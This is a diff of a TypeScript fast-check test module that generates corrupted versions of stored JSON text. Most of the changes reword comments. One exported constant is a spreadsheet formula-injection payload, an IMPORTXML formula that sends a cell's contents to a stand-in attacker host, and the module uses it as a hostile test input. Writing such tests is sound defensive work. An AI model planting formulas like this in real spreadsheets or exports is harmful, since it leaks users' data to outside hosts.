@@ -1,9 +1,9 @@
 import fc from 'fast-check';
 
-/** A formula that sends a cell away as soon as it stands in one. */
+/** A formula that sends a cell away as soon as it is in a cell. */
 export const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';
 
-/** One thing that is not what it says it is. */
+/** One thing that is not what it claims to be. */
 const WRONG: fc.Arbitrary<unknown> = fc.oneof(
   fc.constantFrom<unknown>(
     ...[LIVE, `'${LIVE}`, '+1', '-1', '', '0', null, true, -1, 0, 0.5, 1e9, 2 ** 53, -(2 ** 53), [], {}, [[LIVE]]],
@@ -17,9 +17,12 @@ const WRONG: fc.Arbitrary<unknown> = fc.oneof(
   fc.jsonValue(),
 );
 
-/** What is done to a stored text: something in it twisted into another of its type, or replaced, added or taken out, or the text cut or put aside. */
+/**
+ * A manipulation of a stored text: something in it is converted to another type, replaced, added or removed, or the
+ * text itself is cut or replaced.
+ */
 export interface Forgery {
-  /** Which of the texts, and which place in it, as parts of all of them. */
+  /** Which of the texts, and which place in it, as fractions of all of them. */
   readonly text: number;
   readonly place: number;
   readonly is: 'twist' | 'replace' | 'add' | 'remove' | 'cut' | 'text';
@@ -31,12 +34,12 @@ const part = fc.double({ min: 0, max: 0.999_999, noNaN: true });
 export const FORGERY: fc.Arbitrary<Forgery> = fc.record({
   text: part,
   place: part,
-  // Mostly those after which it is still read.
+  // Mostly manipulations after which the text can still be read.
   is: fc.constantFrom('twist', 'twist', 'twist', 'twist', 'twist', 'twist', 'replace', 'add', 'remove', 'cut', 'text'),
   wrong: WRONG,
 });
 
-/** @param text JSON, as far as it is any */
+/** @param text JSON, if it is any */
 export function forge(text: string, { text: which, place, is, wrong }: Forgery): string {
   if (is === 'text') return typeof wrong === 'string' ? wrong : JSON.stringify(wrong);
   if (is === 'cut') return text.slice(0, Math.floor(place * text.length));
@@ -65,7 +68,7 @@ function twist(value: unknown, which: number): unknown {
   return typeof value === 'string' ? TEXTS[Math.floor(which * TEXTS.length)] : value;
 }
 
-/** Every value within another, by what holds it. */
+/** Every value inside another, by its container. */
 function placesOf(value: unknown): readonly (readonly [object, string])[] {
   if (typeof value !== 'object' || value === null) return [];
   return Object.entries(value).flatMap(([name, inner]) => [[value, name] as const, ...placesOf(inner)]);
